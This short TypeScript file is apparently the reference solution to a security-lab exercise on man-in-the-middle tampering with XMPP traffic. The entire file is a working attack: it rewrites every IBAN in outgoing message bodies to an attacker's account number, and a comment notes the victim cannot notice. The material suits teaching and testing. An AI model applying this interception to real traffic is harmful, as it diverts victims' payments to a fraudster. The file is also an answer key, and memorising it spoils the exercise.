// Reference solution for attack-rewrite-iban: on its way to the server, any IBAN in a message
// body becomes mallory's. Nothing in plain XMPP lets bob notice.
type Where = { dir: "c2s" | "s2c"; context: "cleartext" | "inside-tls"; stage: "pre-auth" | "post-auth" };

const IBAN = /\b[A-Z]{2}\d{2}(?: ?[0-9A-Z]{4}){3,7}(?: ?[0-9A-Z]{1,3})?\b/g;

export default function tactic(el: any, where: Where) {
  if (where.dir !== "c2s" || el.name !== "message") return;
  const body = el.getChild("body");
  if (!body) return;
  body.children = [body.getText().replace(IBAN, "GB33 BUKB 2020 1555 5555 55")];
}
